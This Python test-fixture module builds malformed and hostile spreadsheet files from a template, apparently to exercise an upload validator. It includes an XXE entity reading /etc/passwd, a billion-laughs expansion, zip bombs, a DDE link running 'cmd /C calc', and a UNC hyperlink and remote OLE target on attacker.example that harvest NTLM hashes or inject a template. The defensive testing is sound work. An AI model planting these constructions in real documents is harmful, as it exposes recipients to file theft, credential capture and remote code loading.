"""Files people (and attackers) send instead of a clean .xlsx, made from a real template's bytes."""

from __future__ import annotations

import io
import random
import re
import warnings
import zipfile
from collections.abc import Callable

MB = 1024 * 1024


def rezip(data: bytes, change: Callable[[str, bytes], bytes | None] = lambda n, b: b, add=None) -> bytes:
    """The archive rewritten member by member (`change` returns None to drop one), plus `add`."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = change(info.filename, src.read(info.filename))
            if body is not None:
                dst.writestr(info.filename, body)
        for name, body in (add or {}).items():
            dst.writestr(name, body)
    return out.getvalue()


def first_sheet_part(data: bytes) -> str:
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    return sorted(n for n in names if n.startswith("xl/worksheets/sheet"))[0]


def with_doctype(data: bytes, part: str, doctype: str) -> bytes:
    def change(name: str, body: bytes) -> bytes:
        if name != part:
            return body
        text = body.decode("utf-8")
        head = re.match(r"<\?xml[^>]*\?>", text)
        at = head.end() if head else 0
        return (text[:at] + doctype + text[at:]).encode("utf-8")

    return rezip(data, change)


XXE = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
)


def with_macro(data: bytes) -> bytes:
    """As Excel saves an .xlsm: a VBA project part and the macro-enabled main content type."""

    def change(name: str, body: bytes) -> bytes:
        if name == "[Content_Types].xml":
            text = body.decode("utf-8").replace(
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            )
            return text.replace(
                "</Types>",
                '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
            ).encode("utf-8")
        return body

    return rezip(data, change, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)})


def with_macro_content_type_only(data: bytes) -> bytes:
    def change(name: str, body: bytes) -> bytes:
        if name == "[Content_Types].xml":
            return body.replace(b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml")
        return body

    return rezip(data, change)


def with_member(data: bytes, name: str, body: bytes, level: int = 9) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info.filename))
        dst.writestr(name, body)
    return out.getvalue()


def bomb_by_ratio(data: bytes) -> bytes:
    """One 20 MB member of zeros: about 20 KB compressed (1000:1)."""
    return with_member(data, "xl/media/image1.png", bytes(20 * MB))


def bomb_by_total(data: bytes) -> bytes:
    """Many parts just under the ratio floor that add up past the uncompressed cap (210 MB)."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    chunk = bytes(MB - 1)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info.filename))
        for i in range(210):
            dst.writestr(f"xl/media/pad{i}.bin", chunk)
    return out.getvalue()


def too_large(data: bytes) -> bytes:
    """11 MB of incompressible content added: the file itself is over the 10 MB cap."""
    return with_member(data, "xl/media/photo.jpg", random.Random(7).randbytes(11 * MB), level=1)


def truncated(data: bytes) -> bytes:
    return data[: len(data) // 2]


def random_bytes(data: bytes) -> bytes:
    return random.Random(1).randbytes(5000)


def corrupt_member(data: bytes) -> bytes:
    """A compressed byte of a sheet flipped: the archive opens, the part fails its CRC."""
    part = first_sheet_part(data)
    archive = zipfile.ZipFile(io.BytesIO(data))
    info = archive.getinfo(part)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    at = start + info.compress_size // 2
    return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]


def malformed_sheet_xml(data: bytes, sheet: str) -> bytes:
    """The XML of one data sheet cut off mid-way: a valid archive with a broken part."""
    from templates_xlsx.reader import Workbook

    part = Workbook(data).sheet_part(sheet)
    return rezip(data, lambda n, b: b[: len(b) // 3] if n == part else b)


def html_as_xls(data: bytes) -> bytes:
    return (
        '<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta charset="utf-8"></head>'
        "<body><table><tr><td>指标代码</td><td>本期值</td></tr><tr><td>T-K01</td><td>1050</td></tr></table>"
        "</body></html>"
    ).encode()


def csv_file(data: bytes) -> bytes:
    return "指标代码,本期值,备注\nT-K01,1050,市统计局\n".encode("gb18030")


def pdf_file(data: bytes) -> bytes:
    return b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def ods_file(data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        dst.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        dst.writestr("content.xml", "<office:document-content/>")
    return out.getvalue()


def docx_file(data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        dst.writestr("[Content_Types].xml", "<Types/>")
        dst.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


def empty_zip(data: bytes) -> bytes:
    out = io.BytesIO()
    zipfile.ZipFile(out, "w").close()
    return out.getvalue()


def encrypted(data: bytes) -> bytes:
    """Password-encrypted the way Excel does it ("用密码进行加密"): an OLE container."""
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(data)).encrypt("secret", out)
    return out.getvalue()


def with_duplicate_entry(data: bytes, part: str = "xl/workbook.xml") -> bytes:
    """A second entry of the same name after the first: zipfile reads the last, Excel the first."""
    first = zipfile.ZipFile(io.BytesIO(data)).read(part)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns "Duplicate name" and writes it anyway
        return with_member(data, part, first.replace(b"<sheet ", b'<sheet state="hidden" ', 1))


def with_duplicate_entry_by_case(data: bytes) -> bytes:
    """Part names are case-insensitive in OPC: XL/Workbook.xml is xl/workbook.xml again."""
    return with_member(data, "XL/Workbook.xml", zipfile.ZipFile(io.BytesIO(data)).read("xl/workbook.xml"))


def with_entry(name: str) -> Callable[[bytes], bytes]:
    return lambda data: with_member(data, name, b"<x/>")


_RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _add_relationship(data: bytes, rels_part: str, rel_type: str, target: str, external: bool) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="rId99" Type="{rel_type}" Target="{target}"{mode}/>'

    def change(name: str, body: bytes) -> bytes:
        if name == rels_part:
            return body.replace(b"</Relationships>", rel.encode() + b"</Relationships>")
        return body

    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    if rels_part in names:
        return rezip(data, change)
    return rezip(data, add={rels_part: f'<Relationships xmlns="{_RELS_NS}">{rel}</Relationships>'})


def with_dde_external_link(data: bytes) -> bytes:
    """As Excel saves a DDE formula (=cmd|' /C calc'!A0): an externalLink part with a ddeLink,
    referenced from the workbook's relationships and <externalReferences>."""
    link = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<ddeLink ddeService="cmd" ddeTopic=" /C calc"><ddeItems><ddeItem name="A0" advise="1"/>'
        "</ddeItems></ddeLink></externalLink>"
    )

    def change(name: str, body: bytes) -> bytes:
        if name == "xl/workbook.xml":
            return body.replace(
                b"</sheets>",
                b'</sheets><externalReferences><externalReference r:id="rId99"/></externalReferences>',
            )
        if name == "[Content_Types].xml":
            return body.replace(
                b"</Types>",
                b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType='
                b'"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
            )
        return body

    linked = rezip(data, change, add={"xl/externalLinks/externalLink1.xml": link})
    return _add_relationship(
        linked,
        "xl/_rels/workbook.xml.rels",
        f"{_OFFICE_REL}/externalLink",
        "externalLinks/externalLink1.xml",
        False,
    )


def with_external_link_relationship_only(data: bytes) -> bytes:
    """A link to another workbook on a share, declared only in the workbook's relationships."""
    return _add_relationship(
        data, "xl/_rels/workbook.xml.rels", f"{_OFFICE_REL}/externalLinkPath", "book2.xlsx", True
    )


def with_unc_hyperlink(data: bytes, sheet: str) -> bytes:
    """A cell hyperlink to a UNC path, made by openpyxl: Windows fetches it (and sends the user's
    NTLM hash) when the link is followed or previewed."""
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    book[sheet]["O4"].hyperlink = r"\\attacker.example\share\说明.docx"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def with_ole_object(data: bytes) -> bytes:
    """An embedded OLE object (a packaged file) on the first sheet, as Excel's 插入 → 对象 saves it."""
    part = first_sheet_part(data)
    rels = part.replace("worksheets/", "worksheets/_rels/") + ".rels"
    embedded = rezip(data, add={"xl/embeddings/oleObject1.bin": OLE_HEADER + bytes(1000)})
    return _add_relationship(
        embedded, rels, f"{_OFFICE_REL}/oleObject", "../embeddings/oleObject1.bin", False
    )


def with_remote_ole_relationship(data: bytes) -> bytes:
    """An OLE object whose target is a remote address (template injection), no embedded part."""
    part = first_sheet_part(data)
    rels = part.replace("worksheets/", "worksheets/_rels/") + ".rels"
    return _add_relationship(data, rels, f"{_OFFICE_REL}/oleObject", "http://attacker.example/x.doc", True)


OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def with_cells(sheet: str, refs: list[str], value=1) -> Callable[[bytes], bytes]:
    """The workbook with `value` written by openpyxl at each of `refs` of `sheet` (created if new)."""

    def make(data: bytes) -> bytes:
        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(data))
        ws = book[sheet] if sheet in book.sheetnames else book.create_sheet(sheet)
        for ref in refs:
            ws[ref] = value
        out = io.BytesIO()
        book.save(out)
        return out.getvalue()

    return make


def with_dimension(data: bytes, part: str, ref: str) -> bytes:
    """A sheet whose <dimension> claims `ref` (its cells unchanged): a lying extent."""
    pattern = re.compile(rb"<dimension\b[^>]*>")
    return rezip(
        data, lambda n, b: pattern.sub(f'<dimension ref="{ref}"/>'.encode(), b, 1) if n == part else b
    )


def with_rows(data: bytes, part: str, first: int, count: int, col: str = "O") -> bytes:
    """`count` real rows of text from row `first` on, written into the sheet XML (zipfile): what
    200,000 pasted rows look like, made in a second instead of openpyxl's minutes."""
    rows = "".join(
        f'<row r="{r}"><c r="{col}{r}" t="inlineStr"><is><t>第{r}行</t></is></c></row>'
        for r in range(first, first + count)
    ).encode()
    return rezip(data, lambda n, b: b.replace(b"</sheetData>", rows + b"</sheetData>") if n == part else b)
